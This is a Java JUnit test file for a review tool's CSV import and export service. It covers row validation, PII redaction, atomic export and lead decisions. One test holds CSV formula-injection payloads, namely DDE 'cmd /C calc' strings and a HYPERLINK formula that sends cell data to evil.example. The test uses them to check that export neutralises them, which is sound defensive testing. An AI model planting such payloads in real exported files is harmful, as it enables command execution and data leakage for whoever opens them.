package dev.concord.service;

import dev.concord.review.AdjudicationDraft;
import dev.concord.review.Viewer;
import dev.concord.review.Review;
import dev.concord.review.ReviewDraft;
import dev.concord.review.Reviewer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static dev.concord.service.ReviewFixture.CHAIN;
import static dev.concord.service.ReviewFixture.single;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Reviews CSV import (good rows land, bad rows are named) and export (same layout, atomic). */
class ReviewCsvServiceTest {
    private static final Viewer LEAD = new Viewer("lead", true);
    @TempDir
    Path dir;
    private ReviewFixture f;
    private ReviewCsvService csv;

    @BeforeEach
    void setUp() throws Exception {
        f = new ReviewFixture(dir, 3);
        csv = new ReviewCsvService(f.db, dev.concord.redact.Redactor.standard(), f.clock);
    }

    private Path file(String... lines) throws IOException {
        return Files.writeString(dir.resolve("reviews.csv"), String.join("\n", lines) + "\n", StandardCharsets.UTF_8);
    }

    private Reviewer named(String name) {
        return f.reviewers.reviewers().stream().filter(r -> r.name().equals(name)).findFirst().orElseThrow();
    }

    @Test
    void importsRowsCreatingUnknownReviewersAndKeepsCountsRight() throws Exception {
        Path in = file("item,reviewer,label,correction,best,worst",
                "fi-g1,Ann,good,,,",
                "fi-g1,Bob,wrong / factual error,\"The answer is 42, not 41.\",,",
                "fi-c1,Ann,WRONG,,2,4",
                "fi-c1,Bob,off-task,,none,1");
        ReviewImportReport r = csv.importFile(in);
        assertThat(r.badRows()).isEmpty();
        assertThat(r.rows()).isEqualTo(4);
        assertThat(r.added()).isEqualTo(4);
        assertThat(r.reviewersCreated()).containsExactly("Ann", "Bob");
        Reviewer ann = named("Ann");
        Reviewer bob = named("Bob");
        assertThat(f.reviews.reveal(Viewer.of(bob), single(1))).extracting(Review::label).containsExactly("wrong", "good");
        assertThat(f.reviews.myReview(bob.id(), single(1)).orElseThrow().correction()).isEqualTo("The answer is 42, not 41.");
        Review chain = f.reviews.myReview(ann.id(), CHAIN).orElseThrow();
        assertThat(chain.best()).isEqualTo(1);
        assertThat(chain.worst()).isEqualTo(3);
        Review none = f.reviews.myReview(bob.id(), CHAIN).orElseThrow();
        assertThat(none.noneAcceptable()).isTrue();
        assertThat(none.best()).isNull();
        assertThat(f.adjudication.settings().overlap()).isEqualTo(3);
        assertThat(f.reviews.progress(ann.id()).itemsLeft()).as("no item has 3 reviews yet").isEqualTo(4);
    }

    @Test
    void badRowsAreNamedByFileAndLineAndTheRestLands() throws Exception {
        Path in = file("item,reviewer,label,correction,best,worst",
                "fi-g1,Ann,good,,,",
                "fi-nope,Ann,good,,,",
                "fi-g2,Ann,meh,,,",
                "fi-g1,Ann,wrong,,,",
                "fi-c1,Ann,wrong,,two,",
                "fi-c1,Ann,wrong,,7,",
                "fi-g3,,good,,,",
                "fi-g3,Ann,good,,",
                "fi-c1,Ann,wrong,,1,1",
                "fi-c1,Ann,wrong,,1,2",
                "fi-g2,Cy,good,,,");
        ReviewImportReport r = csv.importFile(in);
        String f0 = in.toString();
        assertThat(r.badRows()).containsExactly(
                f0 + ":3: field 'item': no flagged item has this id",
                f0 + ":4: field 'label': not one of the labels (good, wrong, unsafe, off-task, style, needs-expert)",
                f0 + ":5: field 'reviewer': this reviewer already has a row for this item on line 2",
                f0 + ":6: field 'best': not an attempt number (1-4 or none)",
                f0 + ":7: field 'best': no such attempt (the item has 4)",
                f0 + ":8: field 'reviewer': missing",
                f0 + ":9: expected 6 fields, found 5",
                f0 + ":10: field 'worst': the best and the worst attempt must differ");
        assertThat(r.hasBadRows()).isTrue();
        assertThat(r.added()).isEqualTo(3);
        assertThat(f.reviews.myReview(named("Ann").id(), CHAIN).orElseThrow().best()).isEqualTo(0);
        assertThat(f.reviews.myReview(named("Cy").id(), single(2))).isPresent();
    }

    @Test
    void reimportingTheSameRowsChangesNothingAndAChangedRowIsARevision() throws Exception {
        csv.importFile(file("item,reviewer,label", "fi-g1,Ann,good"));
        ReviewImportReport again = csv.importFile(file("item,reviewer,label", "fi-g1,Ann,good"));
        assertThat(again.unchanged()).isEqualTo(1);
        assertThat(again.added() + again.revised()).isZero();
        ReviewImportReport changed = csv.importFile(file("item,reviewer,label", "fi-g1,Ann,wrong"));
        assertThat(changed.revised()).isEqualTo(1);
        assertThat(f.reviews.myRevisions(named("Ann").id(), single(1))).extracting(Review::label).containsExactly("good", "wrong");
    }

    @Test
    void correctionsAreRedactedBeforeTheyAreStored() throws Exception {
        ReviewImportReport r = csv.importFile(file("item,reviewer,label,correction",
                "fi-g1,Ann,wrong,Call 415-555-0100 or mail x.y@example.com"));
        assertThat(r.redactions()).isEqualTo(2);
        assertThat(f.reviews.myReview(named("Ann").id(), single(1)).orElseThrow().correction())
                .doesNotContain("555-0100", "example.com");
    }

    @Test
    void headerProblemsStopTheImportWithAClearMessage() throws Exception {
        assertThatThrownBy(() -> csv.importFile(file("item,label", "fi-g1,good"))).isInstanceOf(IOException.class)
                .hasMessageContaining(":1: missing column 'reviewer'");
        assertThatThrownBy(() -> csv.importFile(file("item,reviewer,label,colour"))).hasMessageContaining("unknown column 'colour'");
        Files.writeString(dir.resolve("empty.csv"), "");
        assertThatThrownBy(() -> csv.importFile(dir.resolve("empty.csv"))).hasMessageContaining("empty");
        assertThatThrownBy(() -> csv.importFile(dir.resolve("missing.csv"))).hasMessageContaining("file not found");
    }

    @Test
    void anUnclosedQuoteIsReportedAndEarlierRowsLand() throws Exception {
        ReviewImportReport r = csv.importFile(file("item,reviewer,label,correction", "fi-g1,Ann,good,", "fi-g2,Ann,wrong,\"oops"));
        assertThat(r.badRows()).singleElement().asString().endsWith(
                ":3: field 'correction': a quoted field opened on line 3 is never closed; the rest of the file was not read");
        assertThat(r.added()).isEqualTo(1);
    }

    @Test
    void messagesAboutBadRowsNeverEchoTheCells() throws Exception {
        Path in = file("item,reviewer,label,correction,best,worst",
                "fi-jane.doe@example.com,Ann,good,,,",
                "fi-g1,Ann,call 415-555-0100,,,",
                "fi-c1,Ann,good,,+1 415 555 0100,",
                "fi-c1,Ann,good,,,4111111111111111",
                "fi-g2,jane.doe@example.com,good,,,",
                "fi-g2,jane.doe@example.com,wrong,,,",
                "fi-g3,Ann,good,\"oops 415-555-0100");
        ReviewImportReport r = csv.importFile(in);
        assertThat(r.badRows()).hasSize(6);
        // the file's path is random (a temporary folder) and may hold any digits: only the rest must be clean
        assertThat(String.join("\n", r.badRows()).replace(in.toString(), "FILE"))
                .doesNotContain("jane", "example.com", "555", "4111");
        assertThatThrownBy(() -> csv.importFile(file("item,reviewer,label,jane.doe@example.com")))
                .hasMessageContaining(":1: unknown column '[EMAIL]'").hasMessageNotContaining("jane");
    }

    @Test
    void formulaLikeCellsAreExportedAsTextAndImportedBackUnchanged() throws Exception {
        String[] payloads = {"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!E2", "\t=1+1", "'=already quoted"};
        Reviewer ann = f.reviewer("=Ann");
        f.reviews.submit(ann.id(), single(1), new ReviewDraft("wrong", String.join("\n", payloads), null, null, false, null));
        f.reviews.submit(ann.id(), single(2), new ReviewDraft("wrong", payloads[1], null, null, false, null));
        f.reviews.submit(ann.id(), single(3), new ReviewDraft("wrong", payloads[2], null, null, false, null));
        StringWriter out = new StringWriter();
        csv.export(LEAD, out);
        assertThat(out.toString()).contains("\"'=Ann\"", "\"'@SUM(1+9)*cmd|' /C calc'!A0\"",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"").doesNotContain(",=", ",@", ",+", ",-");

        ReviewFixture other = new ReviewFixture(Files.createDirectories(dir.resolve("other")), 3);
        Path file = Files.writeString(dir.resolve("formulas.csv"), out.toString(), StandardCharsets.UTF_8);
        ReviewImportReport r = new ReviewCsvService(other.db).importFile(file);
        assertThat(r.badRows()).isEmpty();
        assertThat(r.reviewersCreated()).containsExactly("=Ann");
        StringWriter back = new StringWriter();
        new ReviewCsvService(other.db).export(LEAD, back);
        assertThat(back.toString()).isEqualTo(out.toString());
    }

    @Test
    void exportWritesTheImportLayoutAndRoundTrips() throws Exception {
        Reviewer ann = f.reviewer("Ann");
        Reviewer bob = f.reviewer("Bob, Jr.");
        f.reviews.submit(ann.id(), single(1), new ReviewDraft("wrong", "Line one\nsaid \"two\"", null, null, false, null));
        f.reviews.submit(bob.id(), CHAIN, new ReviewDraft("good", null, 1, 3, false, null));
        f.reviews.submit(ann.id(), CHAIN, new ReviewDraft("wrong", null, null, 0, true, null));
        f.reviews.revise(ann.id(), CHAIN, ann.id(), new ReviewDraft("unsafe", null, null, 0, true, null));
        StringWriter out = new StringWriter();
        assertThat(csv.export(LEAD, out)).isEqualTo(3);
        assertThat(out.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n"
                + "fi-g1,Ann,wrong,\"Line one\nsaid \"\"two\"\"\",,\n"
                + "fi-c1,Ann,unsafe,,none,1\n"
                + "fi-c1,\"Bob, Jr.\",good,,2,4\n");

        ReviewFixture other = new ReviewFixture(Files.createDirectories(dir.resolve("other")), 3);
        Path file = dir.resolve("out/reviews.csv");
        csv.export(LEAD, file);
        ReviewImportReport r = new ReviewCsvService(other.db).importFile(file);
        assertThat(r.badRows()).isEmpty();
        assertThat(r.added()).isEqualTo(3);
        StringWriter back = new StringWriter();
        new ReviewCsvService(other.db).export(LEAD, back);
        assertThat(back.toString()).isEqualTo(out.toString());
    }

    @Test
    void aLeadsExportCarriesTheDecisionsAndImportRestoresThemUnderTheLead() throws Exception {
        Reviewer ann = f.reviewer("Ann");
        Reviewer bob = f.reviewer("Bob");
        Reviewer lea = f.lead("Lea");
        f.reviews.submit(ann.id(), CHAIN, new ReviewDraft("good", null, 1, 3, false, null));
        f.reviews.submit(bob.id(), CHAIN, new ReviewDraft("wrong", null, null, 0, true, null));
        f.adjudication.decide(lea.id(), CHAIN, new AdjudicationDraft("unsafe", "Refuse politely.", null, 2, true, ann.id(), "n"));
        StringWriter out = new StringWriter();
        assertThat(csv.export(Viewer.of(lea), out)).isEqualTo(3);
        assertThat(out.toString()).isEqualTo("item,reviewer,label,correction,best,worst,kind\n"
                + "fi-c1,Ann,good,,2,4,review\n"
                + "fi-c1,Bob,wrong,,none,1,review\n"
                + "fi-c1,Lea,unsafe,Refuse politely.,none,3,decision\n");
        StringWriter asAnn = new StringWriter();
        csv.export(Viewer.of(ann), asAnn);
        assertThat(asAnn.toString()).as("a reviewer's export keeps the six columns").startsWith("item,reviewer,label,"
                + "correction,best,worst\nfi-c1,Ann").doesNotContain("decision");

        ReviewFixture other = new ReviewFixture(Files.createDirectories(dir.resolve("other")), 3);
        Reviewer otherLea = other.lead("Lea");
        Path file = Files.writeString(dir.resolve("lead.csv"), out.toString(), StandardCharsets.UTF_8);
        ReviewImportReport r = new ReviewCsvService(other.db).importFile(file);
        assertThat(r.badRows()).isEmpty();
        assertThat(r.added()).isEqualTo(2);
        assertThat(r.decided()).isEqualTo(1);
        var decision = other.adjudication.decision(otherLea.id(), CHAIN).orElseThrow();
        assertThat(decision.leadId()).isEqualTo(otherLea.id());
        assertThat(decision.label()).isEqualTo("unsafe");
        assertThat(decision.correction()).isEqualTo("Refuse politely.");
        assertThat(decision.noneAcceptable()).isTrue();
        assertThat(decision.worst()).isEqualTo(2);
        StringWriter back = new StringWriter();
        new ReviewCsvService(other.db).export(Viewer.of(otherLea), back);
        assertThat(back.toString()).isEqualTo(out.toString());
        ReviewImportReport again = new ReviewCsvService(other.db).importFile(file);
        assertThat(again.unchanged()).isEqualTo(3);
        assertThat(again.decided()).isZero();
    }

    @Test
    void aDecisionRowNeedsALeadOfTheDatabaseTheMinimumReviewsAndOneRowAnItem() throws Exception {
        Reviewer ann = f.reviewer("Ann");
        f.reviewer("Bob");
        f.lead("Lea");
        f.reviews.submit(ann.id(), single(1), ReviewDraft.labelOnly("good"));
        Path in = file("item,reviewer,label,kind",
                CHAIN + ",Ann,good,",
                CHAIN + ",Bob,good,review",
                CHAIN + ",Nobody,wrong,decision",
                CHAIN + ",Ann,wrong,decision",
                single(1) + ",Lea,wrong,decision",
                CHAIN + ",Lea,wrong,decision",
                CHAIN + ",Lea,good,decision",
                CHAIN + ",Lea,good,verdict");
        ReviewImportReport r = csv.importFile(in);
        assertThat(r.added()).as(r.badRows().toString()).isEqualTo(2);
        assertThat(r.decided()).as(r.badRows().toString()).isEqualTo(1);
        assertThat(r.reviewersCreated()).isEmpty();
        assertThat(r.badRows()).containsExactly(
                in + ":4: field 'reviewer': no lead of this database has this name; a decision is imported only under the lead who made it",
                in + ":5: field 'reviewer': no lead of this database has this name; a decision is imported only under the lead who made it",
                in + ":6: field 'item': a decision needs the 2 reviews the consensus policy asks for; this item has 1",
                in + ":8: field 'item': this item already has a decision on line 7",
                in + ":9: field 'kind': not 'review' or 'decision'");
        assertThat(f.adjudication.decision(named("Lea").id(), CHAIN).orElseThrow().label()).isEqualTo("wrong");
    }

    @Test
    void aReviewersExportHoldsOnlyTheReviewsOfItemsTheyReviewedThemselves() throws Exception {
        Reviewer ann = f.reviewer("Ann");
        Reviewer bob = f.reviewer("Bob");
        Reviewer cid = f.reviewer("Cid");
        f.reviews.submit(ann.id(), single(1), new ReviewDraft("wrong", "Ann's secret fix", null, null, false, null));
        f.reviews.submit(ann.id(), single(2), ReviewDraft.labelOnly("unsafe"));
        f.reviews.submit(bob.id(), single(2), ReviewDraft.labelOnly("good"));
        StringWriter asBob = new StringWriter();
        assertThat(csv.export(Viewer.of(bob), asBob)).isEqualTo(2);
        assertThat(asBob.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n"
                + "fi-g2,Ann,unsafe,,,\n"
                + "fi-g2,Bob,good,,,\n");
        StringWriter asCid = new StringWriter();
        assertThat(csv.export(Viewer.of(cid), asCid)).isZero();
        assertThat(asCid.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n");
        assertThat(csv.export(Viewer.of(f.lead("Lea")), new StringWriter())).isEqualTo(3);
    }

    @Test
    void exportToAFileReplacesItAtomicallyAndLeavesNoTemporaryFile() throws Exception {
        Path target = dir.resolve("exports/reviews.csv");
        Files.createDirectories(target.getParent());
        Files.writeString(target, "old content");
        f.reviews.submit(f.reviewer("Ann").id(), single(1), ReviewDraft.labelOnly("good"));
        csv.export(LEAD, target);
        assertThat(Files.readString(target)).startsWith("item,reviewer,label").contains("fi-g1,Ann,good");
        try (var files = Files.list(target.getParent())) {
            assertThat(files).containsExactly(target);
        }
    }
}
